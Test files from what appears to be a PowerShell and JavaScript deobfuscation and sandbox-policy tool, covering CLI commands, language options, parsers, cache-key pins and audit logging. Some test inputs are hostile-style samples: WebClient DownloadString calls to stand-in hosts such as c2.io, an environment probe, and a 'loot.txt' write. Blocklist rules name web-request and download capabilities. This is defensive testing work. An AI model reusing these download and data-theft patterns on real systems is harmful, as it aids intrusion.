        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["deobfuscate", "--stats", path], capsys)
        assert code == 0
        assert out.strip() == "Write-Host hi"
        assert "=== pipeline profile ===" in err
        assert "recovery" in err


class TestProfileCommand:
    def test_text_profile(self, script_file, capsys):
        path = script_file("iex ('a'+'b')")
        code, out, _ = run_cli(["profile", path], capsys)
        assert code == 0
        assert "=== pipeline profile ===" in out
        assert "phases" in out
        assert "ast" in out
        # The profile replaces the script, not prints it.
        assert "'ab'" not in out

    def test_json_profile_round_trips(self, script_file, capsys):
        import json

        from repro.obs import STATS_SCHEMA_VERSION, PipelineStats

        path = script_file("$x = 'a'+'b'")
        code, out, _ = run_cli(["profile", "--json", path], capsys)
        assert code == 0
        payload = json.loads(out)
        assert payload["valid_input"] is True
        stats = payload["stats"]
        assert stats["schema_version"] == STATS_SCHEMA_VERSION
        assert PipelineStats.from_dict(stats).to_dict() == stats

    def test_invalid_input_exit_code(self, script_file, capsys):
        path = script_file("'unterminated")
        code, _, _ = run_cli(["profile", path], capsys)
        assert code == 1


class TestScoreCommand:
    def test_scores(self, script_file, capsys):
        path = script_file("iex ('a'+'b')")
        code, out, _ = run_cli(["score", path], capsys)
        assert code == 0
        assert "alias" in out
        assert "concat" in out
        assert "score:" in out


class TestKeyinfoCommand:
    def test_extracts(self, script_file, capsys):
        path = script_file(
            "(New-Object Net.WebClient)"
            ".DownloadString('https://x.test/a.ps1')"
        )
        code, out, _ = run_cli(["keyinfo", path], capsys)
        assert code == 0
        assert "url\thttps://x.test/a.ps1" in out
        assert "ps1\t" in out


class TestBehaviorCommand:
    def test_records(self, script_file, capsys):
        path = script_file(
            "(New-Object Net.WebClient).DownloadString('http://c2.io/')"
        )
        code, out, _ = run_cli(["behavior", path], capsys)
        assert code == 0
        assert "net.download_string\thttp://c2.io/" in out


class TestTokenizeParse:
    def test_tokenize(self, script_file, capsys):
        path = script_file("write-host hi")
        code, out, _ = run_cli(["tokenize", path], capsys)
        assert code == 0
        assert "Command" in out

    def test_parse(self, script_file, capsys):
        path = script_file("write-host hi")
        code, out, _ = run_cli(["parse", path], capsys)
        assert code == 0
        assert "ScriptBlockAst" in out
        assert "CommandAst" in out
