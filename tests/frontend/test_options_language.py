"""``PipelineOptions.language`` round-trips across every surface:
constructor ⇄ dict ⇄ CLI flags ⇄ JSONL task payload ⇄ service body."""

import argparse
import json

import pytest

from repro import PipelineOptions
from repro.frontend import FrontendError


class TestConstruction:
    def test_default_is_powershell(self):
        assert PipelineOptions().language == "powershell"

    def test_alias_normalizes_at_construction(self):
        assert PipelineOptions(language="JavaScript").language == "js"
        assert PipelineOptions(language="PS1").language == "powershell"

    def test_unknown_language_fails_at_the_boundary(self):
        with pytest.raises(FrontendError):
            PipelineOptions(language="cobol")

    def test_none_means_default(self):
        assert (
            PipelineOptions.from_dict({"language": None}).language
            == "powershell"
        )


class TestDictRoundTrip:
    def test_to_dict_from_dict(self):
        options = PipelineOptions(language="js", rename=False)
        rebuilt = PipelineOptions.from_dict(options.to_dict())
        assert rebuilt == options
        assert rebuilt.language == "js"

    def test_canonical_dict_omits_default_language(self):
        assert "language" not in PipelineOptions().canonical_dict()
        assert (
            "language"
            not in PipelineOptions(language="ps1").canonical_dict()
        )
        assert PipelineOptions(language="javascript").canonical_dict() == {
            "language": "js"
        }

    def test_jsonl_round_trip(self):
        # The batch-task wire form: canonical dict through JSON text.
        options = PipelineOptions(language="js")
        line = json.dumps(options.canonical_dict(), sort_keys=True)
        assert PipelineOptions.from_dict(json.loads(line)) == options


class TestCliRoundTrip:
    def _parse(self, argv):
        from repro.cli import build_parser

        return build_parser().parse_args(argv)

    def test_from_cli_args_to_cli_flags(self):
        args = self._parse(
            ["deobfuscate", "x.js", "--language", "javascript"]
        )
        options = PipelineOptions.from_cli_args(args)
        assert options.language == "js"
        flags = options.to_cli_flags()
        assert flags == ["--language", "js"]
        # And back: re-parsing the emitted flags reproduces the options.
        again = self._parse(["deobfuscate", "x.js"] + flags)
        assert PipelineOptions.from_cli_args(again) == options

    def test_default_language_emits_no_flag(self):
        assert "--language" not in PipelineOptions().to_cli_flags()

    def test_unknown_language_is_an_argument_error(self):
        with pytest.raises(SystemExit):
            self._parse(["deobfuscate", "x", "--language", "cobol"])

    def test_language_flag_on_batch_verify_serve(self):
        for argv in (
            ["batch", "dir", "--language", "js"],
            ["verify", "x.js", "--language", "js"],
            ["serve", "--language", "js"],
            ["fleet", "--language", "js"],
        ):
            args = self._parse(argv)
            assert args.language == "js"


class TestTaskPayload:
    def test_make_tasks_carries_language(self):
        from repro.batch import make_tasks

        tasks = make_tasks(
            ["a.js"], options=PipelineOptions(language="js")
        )
        assert tasks[0].options == {"language": "js"}
        assert (
            PipelineOptions.from_dict(tasks[0].options).language == "js"
        )


class TestServiceBody:
    def test_shape_request_accepts_language(self):
        from repro.service.http import shape_request

        script, options, verify, timeout = shape_request(
            {"script": "console.log('x');", "language": "JavaScript"}
        )
        assert options["language"] == "js"

    def test_shape_request_rejects_unknown_language(self):
        from repro.frontend import frontend_names
        from repro.service.http import RequestError, shape_request

        with pytest.raises(RequestError) as exc:
            shape_request({"script": "x", "language": "cobol"})
        payload = exc.value.payload
        assert "cobol" in payload["error"]
        assert payload["languages"] == frontend_names()

    def test_shape_request_rejects_non_string_language(self):
        from repro.service.http import RequestError, shape_request

        with pytest.raises(RequestError):
            shape_request({"script": "x", "language": 7})
