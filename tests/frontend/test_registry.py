"""Front-end registry: resolution, aliases, errors, descriptions."""

import pytest

from repro.frontend import (
    DEFAULT_LANGUAGE,
    Frontend,
    FrontendError,
    available_frontends,
    frontend_names,
    normalize_language,
    register_frontend,
    resolve_frontend,
)


class TestNormalization:
    def test_default_language(self):
        assert DEFAULT_LANGUAGE == "powershell"
        assert normalize_language(None) == "powershell"
        assert normalize_language("") == "powershell"

    @pytest.mark.parametrize(
        "spelling,canonical",
        [
            ("powershell", "powershell"),
            ("PowerShell", "powershell"),
            ("ps", "powershell"),
            ("PS1", "powershell"),
            ("pwsh", "powershell"),
            ("js", "js"),
            ("JavaScript", "js"),
            ("ecmascript", "js"),
        ],
    )
    def test_aliases_resolve(self, spelling, canonical):
        assert normalize_language(spelling) == canonical

    def test_unknown_language_raises_with_known_list(self):
        with pytest.raises(FrontendError) as exc:
            normalize_language("cobol")
        message = str(exc.value)
        assert "cobol" in message
        for name in frontend_names():
            assert name in message


class TestResolution:
    def test_registry_round_trip(self):
        # name -> frontend -> id -> same frontend (the singleton).
        for name in frontend_names():
            frontend = resolve_frontend(name)
            assert frontend.id == name
            assert resolve_frontend(frontend.id) is frontend

    def test_alias_resolves_to_same_singleton(self):
        assert resolve_frontend("ps1") is resolve_frontend("powershell")
        assert resolve_frontend("javascript") is resolve_frontend("js")

    def test_builtins_registered(self):
        assert "powershell" in frontend_names()
        assert "js" in frontend_names()

    def test_available_frontends_in_id_order(self):
        frontends = available_frontends()
        assert [f.id for f in frontends] == frontend_names()

    def test_describe_shape(self):
        for frontend in available_frontends():
            row = frontend.describe()
            assert row["id"] == frontend.id
            assert row["name"]
            assert set(row["capabilities"]) == {
                "recovery",
                "verify",
                "generator",
                "rename",
                "reformat",
                "multilayer",
            }

    def test_duplicate_registration_rejected(self):
        with pytest.raises(FrontendError):
            register_frontend(lambda: Frontend(), id="powershell")

    def test_replace_registration_and_id_validation(self):
        class Mismatched(Frontend):
            id = "not-testlang"

        register_frontend(lambda: Mismatched(), id="testlang")
        try:
            with pytest.raises(FrontendError):
                resolve_frontend("testlang")
        finally:
            # De-register so other tests see only the builtins.
            from repro.frontend import registry

            registry._FACTORIES.pop("testlang", None)
            registry._INSTANCES.pop("testlang", None)
            registry._ALIASES.pop("testlang", None)
