"""PowerShell parity pins: the front-end redesign is invisible.

``language="powershell"`` must behave byte-identically to the
pre-frontend pipeline — same output scripts, same evaluator step
counts, same iteration counts, and (the load-bearing one for the
service) the exact same content-addressed cache keys.  The hex keys
below were produced by the pre-language release; if one changes, a
PowerShell user's warm cache has been silently invalidated.
"""

import pytest

from repro import Deobfuscator, PipelineOptions
from repro.service.cache import cache_key

# (script, default-options key, verify-observing key, output, steps,
#  iterations) — pinned from the pre-frontend pipeline.
PINNED = [
    (
        "I`E`X ('wri'+'te-host hi')",
        "4ea1719a2c5c707c1d31727b0ac81488d11f19c243b94795cf07e24a751c8c19",
        "0de4d65edae7f1b120e45db35f8bc7560f1ee9ee3ccc30b1f0c7a123a913919a",
        "Write-Host hi",
        24,
        3,
    ),
    (
        "$a = 'down'; $b = 'load'; Write-Host ($a+$b)",
        "a0f349a310ed90c790e7ba45562b9f0c49bece3f8701c24210beb1748ddaa928",
        "da1a1a5132e7594f3155eb12e23412f697c00ead7055d07f13be6cab8c98f81c",
        "$var0 = 'down'; $var1 = 'load'; Write-Host ('download')",
        35,
        2,
    ),
    (
        "powershell -EncodedCommand VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=",
        "f04bd215f6420642f903815c55a512064d2436fed17dec24e5ea00a5e2dcd82c",
        "a81a17f964d3c2336433d54393be9192ca57759645ab18f4c92e860b98c5f340",
        "Write-Host hi",
        12,
        2,
    ),
]


class TestCacheKeyParity:
    @pytest.mark.parametrize(
        "script,default_key,observing_key", [p[:3] for p in PINNED]
    )
    def test_pre_language_keys_unchanged(
        self, script, default_key, observing_key
    ):
        assert (
            cache_key(script, PipelineOptions().canonical_dict())
            == default_key
        )
        assert (
            cache_key(
                script,
                PipelineOptions(
                    policy="verify-observing"
                ).canonical_dict(),
            )
            == observing_key
        )

    def test_explicit_default_language_is_the_same_key(self):
        script = PINNED[0][0]
        assert cache_key(
            script,
            PipelineOptions(language="powershell").canonical_dict(),
        ) == cache_key(script, PipelineOptions().canonical_dict())
        # Aliases normalize to the default too.
        assert cache_key(
            script, PipelineOptions(language="ps1").canonical_dict()
        ) == cache_key(script, PipelineOptions().canonical_dict())

    def test_non_default_language_differentiates(self):
        script = "console.log('x');"
        assert cache_key(
            script, PipelineOptions(language="js").canonical_dict()
        ) != cache_key(script, PipelineOptions().canonical_dict())


class TestPipelineParity:
    @pytest.mark.parametrize(
        "script,output,steps,iterations",
        [(p[0], p[3], p[4], p[5]) for p in PINNED],
    )
    def test_output_steps_iterations(
        self, script, output, steps, iterations
    ):
        result = Deobfuscator().deobfuscate(script)
        assert result.script == output
        assert result.stats.evaluator_steps == steps
        assert result.iterations == iterations
        assert result.stats.language == "powershell"

    def test_explicit_language_matches_default(self):
        script = PINNED[1][0]
        implicit = Deobfuscator().deobfuscate(script)
        explicit = Deobfuscator(
            options=PipelineOptions(language="powershell")
        ).deobfuscate(script)
        assert implicit.script == explicit.script
        assert (
            implicit.stats.evaluator_steps
            == explicit.stats.evaluator_steps
        )
        assert implicit.iterations == explicit.iterations
