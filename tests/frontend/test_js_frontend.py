"""The minimal JavaScript front end: lexer, parser, evaluator,
recovery, multi-layer unwrap, rename/reformat, verification,
generator, and the end-to-end pipeline."""

import pytest

from repro import Deobfuscator, PipelineOptions, deobfuscate


class TestLexer:
    def test_tokens_carry_extents(self):
        from repro.frontend.js.lexer import JsTokenType, tokenize

        source = "var x = 'hi';"
        tokens = tokenize(source)
        assert [t.type for t in tokens] == [
            JsTokenType.KEYWORD,
            JsTokenType.IDENT,
            JsTokenType.PUNCT,
            JsTokenType.STRING,
            JsTokenType.PUNCT,
        ]
        for token in tokens:
            assert source[token.start:token.end] == token.text

    def test_string_escapes_decode(self):
        from repro.frontend.js.lexer import tokenize

        (token,) = tokenize(r"'\x68i\n'")
        assert token.value == "hi\n"

    def test_numbers(self):
        from repro.frontend.js.lexer import tokenize

        values = [t.value for t in tokenize("0x10 3.5 7")]
        assert values == [16, 3.5, 7]

    def test_lex_error(self):
        from repro.frontend.js.errors import JsLexError
        from repro.frontend.js.lexer import tokenize, try_tokenize

        with pytest.raises(JsLexError):
            tokenize("'unterminated")
        tokens, error = try_tokenize("'unterminated")
        assert tokens is None and error


class TestParser:
    def test_extents_are_byte_precise(self):
        from repro.frontend.js import ast_nodes as N
        from repro.frontend.js.parser import parse

        source = "console.log('a' + 'b');"
        program = parse(source)
        nodes = list(program.walk_pre_order())
        calls = [n for n in nodes if isinstance(n, N.CallExpression)]
        assert source[calls[0].start:calls[0].end] == (
            "console.log('a' + 'b')"
        )
        binaries = [
            n for n in nodes if isinstance(n, N.BinaryExpression)
        ]
        assert source[binaries[0].start:binaries[0].end] == "'a' + 'b'"

    def test_try_parse_error_path(self):
        from repro.frontend.js.parser import try_parse

        ast, error = try_parse("var = ;")
        assert ast is None and error
        ast, error = try_parse("var x = 1;")
        assert ast is not None and error is None

    def test_parse_cache_hits(self):
        from repro.frontend.js.parser import (
            clear_parse_cache,
            parse_cache_info,
            parse_cached,
        )

        clear_parse_cache()
        _, hits_before, misses_before = parse_cache_info()
        parse_cached("var x = 1;")
        parse_cached("var x = 1;")
        entries, hits, misses = parse_cache_info()
        assert entries == 1
        assert hits - hits_before == 1
        assert misses - misses_before == 1


class TestEvaluator:
    def _eval(self, expression, environment=None):
        from repro.frontend.js import ast_nodes as N
        from repro.frontend.js.evaluator import JsEvaluator
        from repro.frontend.js.parser import parse
        from repro.runtime.limits import ExecutionBudget

        program = parse(expression + ";")
        statement = program.body[0]
        assert isinstance(statement, N.ExpressionStatement)
        evaluator = JsEvaluator(
            environment=dict(environment or {}),
            budget=ExecutionBudget(step_limit=10_000),
        )
        return evaluator.evaluate(statement.expression)

    @pytest.mark.parametrize(
        "expression,expected",
        [
            ("'a' + 'b'", "ab"),
            ("'n=' + 3", "n=3"),
            ("1 + 2 * 3", 7),
            ("7 % 3", 1),
            ("'abc'.length", 3),
            ("'abcdef'.slice(1, 3)", "bc"),
            ("'a-b-c'.split('-')[1]", "b"),
            ("String.fromCharCode(104, 105)", "hi"),
            ("parseInt('2a', 16)", 42),
            ("atob('aGk=')", "hi"),
            ("['a', 'b'].slice(1).concat(['c'])[1]", "c"),
            ("['x', 'y'].join('-')", "x-y"),
            ("'HeLLo'.toLowerCase()", "hello"),
        ],
    )
    def test_subset_semantics(self, expression, expected):
        assert self._eval(expression) == expected

    def test_unknown_variable_raises(self):
        from repro.frontend.js.errors import JsEvalError

        with pytest.raises(JsEvalError):
            self._eval("mystery + 1")

    def test_eval_is_a_layer_boundary_not_a_builtin(self):
        from repro.frontend.js.errors import JsEvalError

        with pytest.raises(JsEvalError):
            self._eval("eval('1')")

    def test_mutating_array_methods_refused(self):
        from repro.frontend.js.errors import JsEvalError

        with pytest.raises(JsEvalError):
            self._eval("['a', 'b'].reverse()")

    def test_step_budget_enforced(self):
        from repro.frontend.js import ast_nodes as N
        from repro.frontend.js.evaluator import JsEvaluator
        from repro.frontend.js.parser import parse
        from repro.runtime.errors import StepLimitError
        from repro.runtime.limits import ExecutionBudget

        program = parse("'a' + 'b' + 'c' + 'd';")
        statement = program.body[0]
        evaluator = JsEvaluator(
            environment={}, budget=ExecutionBudget(step_limit=2)
        )
        with pytest.raises(StepLimitError):
            evaluator.evaluate(statement.expression)


class TestRecoveryPhases:
    def test_string_concat_folds(self):
        from repro.frontend.js.recovery import JsAstDeobfuscator

        engine = JsAstDeobfuscator()
        assert engine.process("console.log('hel' + 'lo');") == (
            "console.log('hello');"
        )

    def test_variable_tracing_through_rotation(self):
        from repro.frontend.js.recovery import JsAstDeobfuscator

        script = (
            "var _0x4f2a = ['wor' + 'ld', 'hel' + 'lo'];\n"
            "_0x4f2a = _0x4f2a.slice(1).concat(_0x4f2a.slice(0, 1));\n"
            "console.log(_0x4f2a[0] + ' ' + _0x4f2a[1]);"
        )
        out = JsAstDeobfuscator().process(script)
        assert "console.log('hello world');" in out

    def test_unwrap_eval_layer(self):
        from repro.frontend.js.recovery import unwrap_js_layers

        outcome = unwrap_js_layers("eval('console.log(1);');")
        assert outcome.script == "console.log(1);"
        assert outcome.count == 1
        assert outcome.kinds == {"eval": 1}

    def test_rename_obfuscated_identifiers(self):
        from repro.frontend.js.recovery import rename_js_identifiers

        renamed = rename_js_identifiers(
            "var _0xab12 = 1; console.log(_0xab12);"
        )
        assert renamed == "var var0 = 1; console.log(var0);"

    def test_reformat_statement_per_line(self):
        from repro.frontend.js.recovery import reformat_js

        assert reformat_js("var a = 1; var b = 2;") == (
            "var a = 1;\nvar b = 2;"
        )

    def test_tag_techniques(self):
        from repro.frontend.js.recovery import tag_js_techniques

        tags = tag_js_techniques(
            "eval('x');\nvar a = 'b' + 'c';", unwrap_kinds={"eval": 1}
        )
        assert tags["js_eval"] == 1
        assert tags["js_string_concat"] == 1
        assert tags["layer_eval"] == 1


class TestVerification:
    def test_equivalent_and_divergent(self):
        from repro.frontend.js.runner import verify_js_equivalence

        verdict = verify_js_equivalence(
            "console.log('hel' + 'lo');", "console.log('hello');"
        )
        assert verdict.verdict == "equivalent"
        verdict = verify_js_equivalence(
            "console.log('hello');", "console.log('goodbye');"
        )
        assert verdict.verdict == "divergent"
        assert verdict.diff

    def test_invalid_candidate_is_divergent(self):
        from repro.frontend.js.runner import verify_js_equivalence

        verdict = verify_js_equivalence("console.log(1);", "var = ;")
        assert verdict.verdict == "divergent"

    def test_eval_recursion_observed(self):
        from repro.frontend.js.runner import observe_js

        log = observe_js("eval('console.log(\\'deep\\');');")
        assert [event for event in log.events] == [
            ("console.log", ("deep",))
        ]


class TestGenerator:
    def test_seeded_and_round_trips(self):
        from repro.frontend.js.generator import generate_js_corpus
        from repro.frontend.js.runner import verify_js_equivalence

        first = generate_js_corpus(count=6, seed=3)
        second = generate_js_corpus(count=6, seed=3)
        assert [s.script for s in first] == [s.script for s in second]
        for sample in first:
            assert sample.techniques
            verdict = verify_js_equivalence(
                sample.script, sample.clean_script
            )
            assert verdict.verdict == "equivalent", sample.identifier


class TestEndToEnd:
    def test_pipeline_recovers_the_subset(self):
        script = (
            "var _0x4f2a = ['wor' + 'ld', 'hel' + 'lo'];\n"
            "_0x4f2a = _0x4f2a.slice(1).concat(_0x4f2a.slice(0, 1));\n"
            "eval('conso' + 'le.log(_0x4f2a[0] + \\' \\' "
            "+ _0x4f2a[1]);');"
        )
        result = deobfuscate(
            script, options=PipelineOptions(language="js")
        )
        assert result.valid_input
        assert "console.log('hello world');" in result.script
        assert "_0x" not in result.script
        assert result.layers_unwrapped == 1
        assert result.stats.language == "js"
        assert result.stats.unwrap_kinds.get("eval") == 1
        assert result.stats.techniques["js_string_concat"] == 1
        assert result.stats.techniques["js_array_rotation"] == 1

    def test_invalid_js_input(self):
        result = deobfuscate(
            "var = ;", options=PipelineOptions(language="js")
        )
        assert not result.valid_input
        assert result.script == "var = ;"

    def test_frontend_verify_on_pipeline_result(self):
        from repro.frontend import resolve_frontend

        options = PipelineOptions(language="js")
        result = Deobfuscator(options=options).deobfuscate(
            "console.log('a' + 'b');"
        )
        verdict = resolve_frontend("js").verify(result)
        assert verdict.verdict == "equivalent"

    def test_powershell_text_is_not_valid_js(self):
        result = deobfuscate(
            "I`E`X ('wri'+'te-host hi')",
            options=PipelineOptions(language="js"),
        )
        # PowerShell backticks are a lex error under the JS grammar.
        assert not result.valid_input

    def test_examples_on_disk_recover(self):
        import glob
        import os

        examples = sorted(
            glob.glob(
                os.path.join(
                    os.path.dirname(__file__),
                    "..",
                    "..",
                    "examples",
                    "js",
                    "*.js",
                )
            )
        )
        assert examples, "examples/js/*.js is empty"
        frontend_options = PipelineOptions(language="js")
        from repro.frontend import resolve_frontend

        js = resolve_frontend("js")
        for path in examples:
            with open(path, "r", encoding="utf-8") as handle:
                script = handle.read()
            result = deobfuscate(script, options=frontend_options)
            assert result.valid_input, path
            assert result.changed, path
            verdict = js.verify(result)
            assert verdict.verdict == "equivalent", (path, verdict)
