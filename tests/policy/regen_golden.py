"""Regenerate the per-preset audit-event goldens after an intentional
policy or sandbox change.

Usage: ``PYTHONPATH=src python tests/policy/regen_golden.py``
"""

import json
import os
import sys

sys.path.insert(
    0,
    os.path.join(os.path.dirname(__file__), os.pardir, os.pardir, "src"),
)
sys.path.insert(0, os.path.dirname(__file__))

from test_audit import GOLDEN_DIR, audit_snapshot  # noqa: E402

from repro.policy import PRESET_NAMES  # noqa: E402


def main() -> None:
    os.makedirs(GOLDEN_DIR, exist_ok=True)
    for name in PRESET_NAMES:
        path = os.path.join(GOLDEN_DIR, f"{name}.json")
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(audit_snapshot(name), handle, indent=2,
                      sort_keys=True)
            handle.write("\n")
        print(f"wrote {path}")


if __name__ == "__main__":
    main()
