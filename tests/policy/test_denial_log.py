"""Cross-check: policy denial counters vs the structured event log.

The contract wired into :meth:`PolicyAudit.record` is one ``policy
denied capability`` event per counter increment — so the
``repro_policy_denials_total`` metric and the event log can never
drift, whatever the policy's ``audit_denials`` setting is.
"""

import pytest

from repro.core.pipeline import deobfuscate
from repro.obs.log import configure_logging, log_tail, reset_logging
from repro.options import PipelineOptions
from repro.policy import PolicyAudit, resolve_policy
from repro.service.metrics import render_metrics


@pytest.fixture(autouse=True)
def _logging_state():
    configure_logging(level="debug")
    yield
    reset_logging()


def denial_events():
    return [
        event
        for event in log_tail(limit=1000, logger="policy.audit")
        if event["message"] == "policy denied capability"
    ]


class TestUnitCrossCheck:
    def test_one_event_per_counter_increment(self):
        audit = PolicyAudit(resolve_policy("recovery-strict"))
        audit.record("command", "invoke-webrequest", "deny", "blocklist")
        audit.record("command", "invoke-webrequest", "deny", "blocklist")
        audit.record("effect", "net.request", "deny", "deny_effects:net.")
        events = denial_events()
        assert len(events) == audit.denial_total() == 3
        # The event fields carry the decision details the counter
        # collapses away.
        assert events[-1]["fields"]["capability"] == "effect"
        assert events[-1]["fields"]["rule"] == "deny_effects:net."
        assert events[-1]["fields"]["policy"] == "recovery-strict"

    def test_allowed_decisions_do_not_emit_denial_events(self):
        audit = PolicyAudit(resolve_policy("verify-observing"))
        audit.record("command", "write-host", "allow", "default")
        assert denial_events() == []
        assert audit.denial_total() == 0

    def test_audit_silent_policies_still_emit(self):
        # recovery-strict does not store AuditEvents, but the counter
        # and the log event must still both fire.
        policy = resolve_policy("recovery-strict")
        assert not policy.audit_denials
        audit = PolicyAudit(policy)
        audit.record("command", "invoke-expression", "deny", "blocklist")
        assert audit.events == []
        assert len(denial_events()) == audit.denial_total() == 1


class TestEndToEndCrossCheck:
    def test_pipeline_denials_match_metric_and_events(self):
        script = "write-host $env:COMPUTERNAME\n"
        result = deobfuscate(
            script,
            options=PipelineOptions(policy="wild-sample-paranoid"),
        )
        denials = result.stats.policy_denials
        total = sum(denials.values())
        events = denial_events()
        assert total > 0
        assert len(events) == total

        # The same counts rendered as repro_policy_denials_total.
        text = render_metrics({"pipeline": {"policy_denials": denials}})
        rendered = {
            line.split('capability="', 1)[1].split('"', 1)[0]:
            float(line.rsplit(" ", 1)[1])
            for line in text.splitlines()
            if line.startswith("repro_policy_denials_total{")
        }
        assert rendered == {k: float(v) for k, v in denials.items()}
        by_capability = {}
        for event in events:
            capability = event["fields"]["capability"]
            by_capability[capability] = by_capability.get(capability, 0) + 1
        assert by_capability == denials
