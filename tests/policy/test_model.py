"""Unit tests for the SandboxPolicy record itself."""

import json

import pytest

from repro.policy import CAPABILITIES, PolicyError, SandboxPolicy


class TestConstruction:
    def test_defaults_match_legacy_sandbox(self):
        policy = SandboxPolicy()
        assert policy.enforce_blocklist
        assert not policy.deny_env_reads
        assert policy.step_limit is None
        assert not policy.collect_events
        assert not policy.audit_denials

    def test_frozen_and_hashable(self):
        policy = SandboxPolicy()
        with pytest.raises(Exception):
            policy.enforce_blocklist = False
        assert hash(policy) == hash(SandboxPolicy())

    def test_name_tuples_normalize_at_construction(self):
        policy = SandboxPolicy(
            deny_commands=("Start-Sleep", "start-sleep ", "INVOKE-ITEM"),
        )
        assert policy.deny_commands == ("invoke-item", "start-sleep")

    def test_replace_derives_variant(self):
        base = SandboxPolicy(name="base")
        open_variant = base.replace(enforce_blocklist=False)
        assert not open_variant.enforce_blocklist
        assert base.enforce_blocklist


class TestChecks:
    def test_blocklist_commands_denied_by_default(self):
        policy = SandboxPolicy()
        assert policy.is_denied("command", "Start-Sleep") == "blocklist"
        assert policy.is_denied("command", "Write-Output") is None

    def test_explicit_deny_beats_blocklist_attribution(self):
        policy = SandboxPolicy(deny_commands=("start-sleep",))
        assert policy.is_denied("command", "Start-Sleep") == "deny_commands"

    def test_allow_commands_punch_blocklist_holes(self):
        policy = SandboxPolicy(allow_commands=("start-sleep",))
        assert policy.is_denied("command", "Start-Sleep") is None

    def test_blocklist_off_allows_everything_listed(self):
        policy = SandboxPolicy(enforce_blocklist=False)
        assert policy.is_denied("command", "Start-Sleep") is None
        assert policy.is_denied("member", "DownloadString") is None

    def test_member_and_static_checks(self):
        policy = SandboxPolicy()
        assert policy.is_denied("member", "downloadstring") == "blocklist"
        assert policy.is_denied("static", "[System.Threading.Thread]") in (
            None, "blocklist",
        )

    def test_env_denied_only_when_configured(self):
        assert SandboxPolicy().is_denied("env", "PATH") is None
        paranoid = SandboxPolicy(deny_env_reads=True, allow_env=("lang",))
        assert paranoid.is_denied("env", "PATH") == "deny_env_reads"
        assert paranoid.is_denied("env", "LANG") is None

    def test_effect_prefix_match(self):
        policy = SandboxPolicy(deny_effects=("net.", "fs.write"))
        assert policy.is_denied("effect", "net.request") == (
            "deny_effects:net."
        )
        assert policy.is_denied("effect", "fs.write") == (
            "deny_effects:fs.write"
        )
        assert policy.is_denied("effect", "fs.read") is None

    def test_unknown_capability_kind_raises(self):
        with pytest.raises(PolicyError, match="unknown capability"):
            SandboxPolicy().is_denied("telepathy", "x")

    def test_check_wraps_is_denied(self):
        policy = SandboxPolicy()
        assert policy.check("command", "Write-Output")
        assert not policy.check("command", "Start-Sleep")

    def test_guard_booleans(self):
        assert not SandboxPolicy().checks_env
        assert not SandboxPolicy().checks_effects
        assert SandboxPolicy(deny_env_reads=True).checks_env
        assert SandboxPolicy(deny_effects=("net.",)).checks_effects
        assert SandboxPolicy().prefilters
        assert not SandboxPolicy(enforce_blocklist=False).prefilters


class TestSerialization:
    def test_dict_round_trip(self):
        policy = SandboxPolicy(
            name="mine",
            deny_effects=("net.",),
            step_limit=1000,
            audit_denials=True,
        )
        rebuilt = SandboxPolicy.from_dict(policy.to_dict())
        assert rebuilt == policy

    def test_canonical_dict_round_trip(self):
        policy = SandboxPolicy(deny_env_reads=True, loop_limit=50)
        rebuilt = SandboxPolicy.from_dict(
            policy.canonical_dict(), name=policy.name
        )
        assert rebuilt.canonical_dict() == policy.canonical_dict()

    def test_canonical_dict_excludes_name_and_defaults(self):
        assert SandboxPolicy(name="whatever").canonical_dict() == {}

    def test_unknown_dict_key_raises(self):
        with pytest.raises(PolicyError, match="unknown policy field"):
            SandboxPolicy.from_dict({"frobnicate": True})

    def test_cache_token_ignores_spelling(self):
        a = SandboxPolicy(deny_commands=("Start-Sleep", "invoke-item"))
        b = SandboxPolicy(
            name="other", deny_commands=("INVOKE-ITEM", "start-sleep")
        )
        assert a.cache_token == b.cache_token
        assert json.loads(a.cache_token) == a.canonical_dict()

    def test_cache_token_differs_on_behaviour(self):
        assert SandboxPolicy().cache_token != (
            SandboxPolicy(deny_env_reads=True).cache_token
        )

    def test_capability_vocabulary_is_closed(self):
        for kind in CAPABILITIES:
            SandboxPolicy().is_denied(kind, "anything")  # must not raise
