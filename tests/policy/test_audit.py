"""PolicyAudit unit tests plus the per-preset audit-event goldens.

The golden files pin what each preset *does* on one canonical hostile
script: which capabilities it denies, which audit events it emits, and
what budget it spends.  Regenerate after an intentional policy change
with ``PYTHONPATH=src python tests/policy/regen_golden.py``.
"""

import json
import os

from repro.obs.trace import (
    SpanRecorder,
    TraceContext,
    activate_recorder,
    deactivate_recorder,
)
from repro.policy import (
    PRESET_NAMES,
    PRESETS,
    PolicyAudit,
    SandboxPolicy,
)

GOLDEN_DIR = os.path.join(os.path.dirname(__file__), "golden")

# One canonical hostile sample: an environment probe, a blocklisted
# command, a filesystem write, and a network member call — every
# capability kind a preset might deny, in a fixed order.
GOLDEN_SCRIPT = (
    "$name = $env:COMPUTERNAME\n"
    "Start-Sleep -Seconds 1\n"
    "Set-Content -Path 'loot.txt' -Value 'stolen'\n"
    "(New-Object Net.WebClient).DownloadString('http://x.test/')\n"
    "Write-Output ('a'+'b')\n"
)


def audit_snapshot(preset_name: str) -> dict:
    """Run the golden script under *preset_name*; return the audit's
    JSON-ready shape (shared with regen_golden.py)."""
    from repro.verify import observe_behavior

    report = observe_behavior(
        GOLDEN_SCRIPT, policy=PRESETS[preset_name]
    )
    audit = report.audit
    return {
        "policy": preset_name,
        "denials": audit.denial_counts(),
        "events": [event.to_dict() for event in audit.events],
        "budget": audit.budget_spent(),
    }


class TestAuditGolden:
    def test_each_preset_matches_its_golden(self):
        for name in PRESET_NAMES:
            with open(
                os.path.join(GOLDEN_DIR, f"{name}.json"),
                encoding="utf-8",
            ) as handle:
                golden = json.load(handle)
            assert audit_snapshot(name) == golden, (
                f"preset {name} diverged from its audit golden — "
                "if intentional, regenerate with "
                "tests/policy/regen_golden.py"
            )

    def test_paranoid_denies_every_capability_it_claims(self):
        snapshot = audit_snapshot("wild-sample-paranoid")
        assert snapshot["denials"].get("env")
        assert snapshot["denials"].get("effect")
        rules = {event["rule"] for event in snapshot["events"]}
        assert "deny_env_reads" in rules
        assert any(rule.startswith("deny_effects:") for rule in rules)

    def test_observing_preset_denies_nothing(self):
        snapshot = audit_snapshot("verify-observing")
        assert snapshot["denials"] == {}
        assert snapshot["events"] == []


class TestPolicyAudit:
    def test_denials_always_counted(self):
        # Even an audit-silent policy counts what it refused.
        audit = PolicyAudit(SandboxPolicy())
        audit.record("command", "Start-Sleep", "deny", "blocklist")
